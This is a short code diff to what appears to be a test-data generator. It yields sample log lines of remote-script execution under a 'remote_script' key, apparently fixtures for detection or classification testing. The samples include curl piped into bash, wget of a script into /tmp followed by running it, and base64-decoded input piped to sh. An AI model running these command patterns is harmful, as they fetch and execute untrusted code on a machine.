@@ -78,7 +78,7 @@ def _b(draw: Draw) -> dict[str, tuple[str, ...]]:
     url = f"https://{host}/{name}"
     return {
         "remote_script": (
-            f"+ curl -fsS --retry 3 http://{octets}/{name}\n+ bash -s -- -y\ncurl http://{octets}/{name} | bash -s -- -y",
+            f"+ curl -fsS --retry 3 http://{octets}/{name}\n+ bash -s\ncurl http://{octets}/{name} | bash -s -- -y",
             f"##[command]wget {url}.sh -O /tmp/{name}.sh\n##[command]bash /tmp/{name}.sh",
             f"$ wget -q {url}.sh && chmod +x {name}.sh && ./{name}.sh",
             f"+ echo {_text(draw, 48)}== | base64 -d | sh",
